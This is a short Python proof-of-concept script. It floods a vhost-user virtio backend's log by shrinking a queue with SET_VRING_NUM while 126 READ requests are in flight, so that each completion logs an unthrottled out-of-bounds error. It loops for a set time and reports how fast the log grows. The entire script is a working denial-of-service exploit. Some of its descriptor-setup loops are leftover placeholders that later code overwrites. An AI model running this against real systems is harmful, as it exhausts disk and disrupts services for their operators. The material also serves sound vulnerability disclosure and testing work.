#!/usr/bin/env python3
"""Log flood through virtio_queue's own unthrottled ERROR line: offer 126 READs on a 128-entry
queue, shrink it with SET_VRING_NUM 2 while they are in flight (accepted, ack 0), let them
complete (each completion with head >= 2 logs "attempted to add out of bounds descriptor to
used ring"), reset the queue, repeat for SECONDS.
usage: resize_flood.py SOCK AGENT_LOG SECONDS"""
import os, sys, time, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from vu import *
sock, log, secs = sys.argv[1], sys.argv[2], float(sys.argv[3])
ram = GuestRam()
fe, qs = setup(sock, ram)
q = qs[0]
l0 = os.path.getsize(log); t0 = time.time(); n = 0
while time.time() - t0 < secs:
    for h in range(0, 126):
        q.set_desc(h, 0x300000 + h * 0x1000, 16, VRING_DESC_F_NEXT, 127)  # GET_ID-free tiny READ? see below
    # simple 2-desc READ of 512 bytes: header at 0x300000+h*0x1000, data/status shared tail
    for h in range(0, 126):
        b = 0x300000 + h * 0x1000
        ram.w(b, struct.pack("<IIQ", 0, 0, h))
        # header(16) readable, then one writable 512+1 desc: data 512 + status 1
        q.set_desc(h, b, 16, VRING_DESC_F_NEXT, 127 - (h % 2))  # placeholder, rebuilt below
    # build per-head chains using a pool of descriptors: heads 0..62 use desc h and h+63
    for h in range(63):
        b = 0x300000 + h * 0x1000
        q.set_desc(h, b, 16, VRING_DESC_F_NEXT, h + 63)
        q.set_desc(h + 63, b + 0x100, 513, VRING_DESC_F_WRITE)
        q.offer(h)
    q.do_kick()
    fe.vring_num(0, 2)
    time.sleep(0.02)
    try:
        fe.get_vring_base(0)          # refused with the session dropped; start a new one
        q.avail_idx = 0
        ram.w(q.desc, bytes(q.used + 6 + 8 * q.n - q.desc))
        q.start(fe)
    except Closed:
        fe.close(); ram = GuestRam(); fe, qs = setup(sock, ram); q = qs[0]
    n += 1
dt = time.time() - t0; g = os.path.getsize(log) - l0
print("cycles=%d in %.1fs; log grew %d bytes (%.0f B/s)" % (n, dt, g, g / dt))
